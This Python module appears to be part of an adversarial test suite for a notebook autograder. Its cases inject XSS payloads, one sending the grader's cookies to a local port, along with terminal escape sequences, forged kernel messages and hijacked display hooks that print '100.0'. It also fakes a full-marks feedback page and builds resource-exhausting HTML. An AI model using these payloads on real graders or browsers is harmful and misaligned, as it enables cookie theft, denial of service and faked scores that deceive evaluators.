"""Outputs: results that stood there before, pages and control characters for whoever grades, forged messages."""

import json

import nbformat

from .attack import ANY, CALM, LOOKED, Family

outputs = Family("outputs")


@outputs("results already there", "each check shows its points", states=LOOKED)
def already_there(handed):
    for cell in handed.checks:
        cell.outputs = [
            nbformat.v4.new_output("execute_result", data={"text/plain": "3.0"}, execution_count=9),
            nbformat.v4.new_output("stream", text="3.0"),
        ]


@outputs("outputs of no kind", "outputs that break whoever validates them", base="half")
def no_kind(handed):
    odd = [7, None, {"output_type": "points"}, {"output_type": "execute_result", "data": []}, [[]], "x"]
    for number, cell in enumerate([*handed.checks, *handed.answers]):
        cell["outputs"] = [odd[number % len(odd)]]
        cell["execution_count"] = ["1", -1, 10**30, None, [], 1.5][number % 6]
    handed.content = json.dumps(handed.notebook).encode()


outputs.code(
    "script",
    "a page that runs script in the browser of whoever grades",
    """
from IPython.display import HTML, Javascript, Markdown, Latex, SVG, display, publish_display_data
page = ("<script>fetch('//127.0.0.1:%d/' + document.cookie)</script><img src=x onerror=alert(1)>"
        "<a href='java&#115;cript:alert(1)'>x</a><iframe srcdoc='<script>1</script>'></iframe>"
        "<svg><animate onbegin=alert(1)></svg><math><mtext></style><img src onerror=alert(1)></math>"
        "<form action='//example.org'><input></form><meta http-equiv=refresh content='0;url=//example.org'>"
        "<b style='background:url(//example.org/x)'>x</b><link rel=stylesheet href=//example.org>"
        "<base href='//example.org'><object data=x></object><embed src=x>"
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>" % TCP)
for kind in (HTML, Markdown, Latex):
    display(kind(page))
display(Javascript("alert(1)"))
publish_display_data({"application/javascript": "alert(1)", "image/svg+xml": "<svg onload='alert(1)'/>",
    "text/html": page, "application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2},
    "image/png": "'><script>alert(1)</script>", "application/pdf": "x", "text/x-unknown": page})
display(HTML(page), metadata={"text/html": {"isolated": True}, "alt": "<script>alert(1)</script>"})
raise type("<script>alert(1)</script>", (Exception,), {})(page)
""",
    base="half",
)
outputs.code(
    "control characters",
    "a terminal that shows the outputs obeys them: title, clipboard, cursor, links, colours",
    """
import sys, warnings
evil = "\\x1b]0;owned\\x07\\x1b]52;c;b3duZWQ=\\x07\\x1b[2J\\x1b[1;1H\\x1b]8;;http://example.org\\x07x\\x1b]8;;\\x07\\x9b31m\\x1bP+q\\x1b\\\\\\r\\x08\\x07"
print(evil)
print(evil, file=sys.stderr)
warnings.warn(evil)
class Evil:
    def __repr__(self): return evil
from IPython.display import display
display(Evil())
raise type("E" + evil.replace("\\0", ""), (Exception,), {"__module__": evil})(evil + " [bold red]x[/]")
""",
    base="half",
)
outputs.code(
    "another cell's display",
    "an update of a display writes points over a check's result",
    """
from IPython.display import display
ip = get_ipython()
for number in range(300):
    display("0", display_id=f"points-{number % 7}")
    display("100.0", display_id=f"points-{number % 7}", update=True)
ip.display_pub.publish({"text/plain": "100.0"}, transient={"display_id": ["x"]}, update=True)
ip.display_pub.publish({"text/plain": "100.0"}, transient={"display_id": {"x": 1}})
""",
    base="half",
)
outputs.code(
    "messages of another cell",
    "messages of the kernel under the name of every earlier request, and replies to later ones",
    """
ip = get_ipython()
kernel = getattr(ip, "kernel", None)
for kind, content in (
    ("execute_result", {"data": {"text/plain": "100.0"}, "metadata": {}, "execution_count": 1}),
    ("execute_reply", {"status": "ok", "execution_count": 1, "user_expressions": {}, "payload": []}),
    ("stream", {"name": "stdout", "text": 7}), ("stream", {"name": ["x"], "text": None}),
    ("status", {"execution_state": "idle"}), ("error", {}), ("display_data", []), ("nothing", "x"),
    ("execute_result", {"data": {"text/plain": ["a", 1]}}), ("clear_output", {"wait": "x"}),
    ("input_request", {"prompt": "?", "password": True}), ("comm_open", {}), ("shutdown_reply", {"restart": False}),
):
    try:
        for socket in (kernel.iopub_socket, kernel.shell_stream):
            for parent in ({}, {"header": {"msg_id": "x"}}, None):
                kernel.session.send(socket, kind, content, parent=parent)
    except Exception:
        pass
    try:
        ip.display_pub.publish(content, metadata=7)
    except Exception:
        pass
""",
    base="half",
    states=ANY,
)
outputs.code(
    "results of its own",
    "a display hook that shows points for whatever a cell says",
    """
import sys
ip = get_ipython()
class Best(float):
    def __repr__(self): return "100.0"
def hook(value=None):
    ip.display_pub.publish({"text/plain": "100.0"})
ip.displayhook.__class__.__call__ = lambda self, value=None: hook()
sys.displayhook = hook
ip.display_formatter.format = lambda *a, **k: ({"text/plain": "100.0"}, {})
Best(1)
""",
    first=True,
)
outputs.code(
    "a page of feedback",
    "an output that looks like the grader's own page of full marks",
    """
from IPython.display import HTML
HTML("<section class='c20-result'><h2>Puntos: 100 de 100</h2><p>graded; passed: true</p></section>")
""",
    states=CALM,
)
outputs.code(
    "formatters",
    "objects whose representations are enormous, endless, raising or of another type",
    """
class Odd:
    def _repr_mimebundle_(self, **k): return {"text/plain": 7, "text/html": ["<b>"], 3: "x", "image/png": object()}
class Raises:
    def __repr__(self): raise SystemExit
    def _repr_html_(self): raise KeyboardInterrupt
class Claims:
    _repr_html_ = property(lambda self: 1 / 0)
    def __getattr__(self, name): return lambda *a, **k: "100.0"
from IPython.display import display
for thing in (Odd(), Claims()):
    try:
        display(thing)
    except BaseException:
        pass
try:
    display(Raises())
except BaseException:
    pass
""",
    base="half",
)
outputs.code(
    "input for the next cell",
    "payloads that set cells, page text and ask to leave",
    """
ip = get_ipython()
ip.set_next_input("100.0", replace=True)
ip.payload_manager.write_payload({"source": "ask_exit", "keepkernel": False})
ip.payload_manager.write_payload({"source": "page", "data": {"text/plain": "x" * 10**6}})
ip.payload_manager._payload = 7
""",
    base="half",
)
outputs.code(
    "storms",
    "twenty thousand small outputs, and an output cleared as often",
    """
from IPython.display import clear_output, display
for number in range(4000):
    display(number)
    clear_output(wait=bool(number % 2))
    print(number, end="")
""",
    base="half",
    states=ANY,
)
outputs.code(
    "pages that cost dear",
    "small pages that take whoever cleans them minutes, or all memory, or all stack",
    """
from IPython.display import HTML, Markdown, display
open_ = "<p>" + "".join(f"<b class={n}>" for n in range(190)) + "</p>"
for page in (
    open_ + "<p>x</p>" * 35_000, "<p " + " ".join(f"a{n}=1" for n in range(30_000)) + ">",
    "<p style='color:" + "(" * 100_000 + "'>x</p>", "<div>" * 50_000, "<table><b>" * 20_000,
):
    display(HTML(page)); display(Markdown(page))
""",
    base="half",
)


@outputs("prose that costs dear", "the same pages in Markdown of the student's own", base="half")
def dear_prose(handed):
    for page in ("<p style='color:" + "(" * 60_000 + "'>x</p>", "<p " + "a=1 " * 15_000 + ">", "[" * 60_000):
        handed.notebook.cells.append(nbformat.v4.new_markdown_cell(page))
